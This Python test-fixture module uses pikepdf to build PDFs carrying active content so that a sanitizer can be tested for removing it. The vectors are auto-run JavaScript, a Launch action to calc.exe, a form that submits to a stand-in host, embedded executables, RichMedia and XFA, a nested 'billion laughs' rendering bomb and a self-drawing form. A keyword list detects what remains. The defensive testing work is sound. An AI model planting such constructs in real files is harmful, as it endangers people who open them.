"""PDFs that do something by themselves or bring something along, made by pikepdf; each names what must be gone."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

SCRIPT, INSIDE, OUTSIDE = "app.alert('armed')", b"the file within", "calc.exe"
DEEP = 60


def _open_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = _script()


def _script() -> Any:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def _named_script(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_script())])))


def _script_after_a_jump(pdf: Pdf) -> None:
    jump = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([_script()]))
    pdf.Root.OpenAction = pdf.make_indirect(jump)


def _launch(pdf: Pdf) -> None:
    act = Dictionary(Type=Name("/Harmless"), S=Name.Launch, F=String(OUTSIDE))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=pdf.make_indirect(act))])


def _when_a_page_opens(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=_script(), X=1)


def _deep_in_an_outline(pdf: Pdf) -> None:
    """Each in the one before, not beside it."""
    last = Dictionary(Title=String("x"), A=_script())
    for _ in range(DEEP):
        last = Dictionary(Title=String("x"), Next=last)
    pdf.Root.Outlines = Dictionary(Type=Name.Outlines, First=last)


def _sending_form(pdf: Pdf) -> None:
    act = Dictionary(S=Name.SubmitForm, F=String("http://armed.example/"))
    field = Dictionary(FT=Name.Btn, Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=act, T=String("send"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), XFA=String("<xdp>armed</xdp>"))


def _file_within(pdf: Pdf) -> None:
    stream = pdf.make_stream(INSIDE)
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), pdf.make_indirect(spec)])))
    pdf.Root.Collection = Dictionary(Type=Name.Collection)


def _file_on_a_page(pdf: Pdf) -> None:
    spec = Dictionary(F=String("a.exe"), EF=Dictionary(UF=pdf.make_stream(INSIDE)))
    note = Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    pdf.Root.AF = Array([spec])


def _film(pdf: Pdf) -> None:
    film = Dictionary(Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=pdf.make_stream(INSIDE))
    pdf.pages[0].Annots = Array([film])


Arm = Callable[[Pdf], None]
ARMS: dict[str, Arm] = {
    each.__name__.strip("_"): each
    for each in (
        *(_open_script, _named_script, _script_after_a_jump, _launch, _when_a_page_opens, _deep_in_an_outline),
        *(_sending_form, _file_within, _file_on_a_page, _film),
    )
}


def paper(arm: Arm | None = None) -> bytes:
    """A page whose font is called as an action is, with a link to an address, and what ``arm`` puts in."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(300, 400))
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        page.Resources = Dictionary(Font=Dictionary({"/A": font, "/AA": font, "/EF": font}))
        page.Contents = pdf.make_stream(b"BT /AA 40 Tf 20 200 Td (PAPER) Tj ET 0 0 1 rg 20 20 200 100 re f")
        link = Dictionary(S=Name.URI, URI=String("http://www.szgm.gov.cn/"))
        page.Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=link)])
        if arm is not None:
            arm(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def said(content: bytes) -> str:
    """Everything that a PDF's objects and streams say, in one text."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return "\n".join(_told(pdf))


def _told(pdf: Pdf) -> Iterator[str]:
    for part in pdf.objects:
        yield (
            part.unparse(resolved=True).decode("latin-1") if not isinstance(part, pikepdf.Stream) else repr(part.keys())
        )
        if isinstance(part, pikepdf.Stream):
            yield part.read_bytes().decode("latin-1")


def is_armed(content: bytes) -> bool:
    """Whether anything of what `ARMS` puts in is left."""
    told = said(content)
    words = ("armed", OUTSIDE, INSIDE.decode(), "/JavaScript", "/Launch", "/SubmitForm", "/EmbeddedFiles", "/XFA")
    return any(word in told for word in words)


def laughs() -> bytes:
    """A page of two kilobytes that draws something which draws two things, each of which draws two, forty deep."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(14_400, 14_400))
        form = pdf.make_stream(b"0 0 14400 14400 re f")
        for _ in range(40):
            form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 14_400, 14_400])
            within, form = form, pdf.make_stream(b"/F Do /F Do")
            form.Resources = Dictionary(XObject=Dictionary(F=within))
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 14_400, 14_400])
        page.Resources = Dictionary(XObject=Dictionary(F=form))
        page.Contents = pdf.make_stream(b"/F Do")
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def drawn_in_itself() -> bytes:
    """A page that draws something which draws itself, twice."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(300, 400))
        form = pdf.make_stream(b"/F Do /F Do")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 300, 400])
        form.Resources = Dictionary(XObject=Dictionary(F=form))
        page.Resources = Dictionary(XObject=Dictionary(F=form))
        page.Contents = pdf.make_stream(b"/F Do")
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def signed(arm: Arm) -> bytes:
    """An armed paper that bears a signature, as its fields say."""

    def both(pdf: Pdf) -> None:
        arm(pdf)
        mark = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
        field = Dictionary(FT=Name.Sig, T=String("s"), V=pdf.make_indirect(mark))
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)

    return paper(both)
